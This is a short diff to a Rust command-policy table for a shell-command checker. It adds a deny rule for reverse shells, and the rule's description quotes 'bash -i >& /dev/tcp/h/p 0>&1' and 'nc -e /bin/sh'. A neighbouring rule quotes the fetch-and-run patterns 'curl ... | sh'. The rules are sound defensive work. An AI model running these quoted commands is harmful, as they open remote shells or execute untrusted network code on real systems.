@@ -55,6 +55,11 @@ pub const REASONS: &[ReasonDoc] = &[
         Deny,
         "Text fetched from the network is run as code (`curl ... | sh`, `sh -c \"$(curl ...)\"`).",
     ),
+    r(
+        "net.reverse-shell",
+        Deny,
+        "A shell wired to a network socket (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`).",
+    ),
     r("opaque.alias", Ask, "Aliases are defined or enabled: later command names may mean something else."),
     r("opaque.dynamic-command", Ask, "The command name is known only at run time."),
     r("opaque.dynamic-script", Ask, "Shell text run by `eval`, `sh -c`, `trap`, ... is known only at run time."),
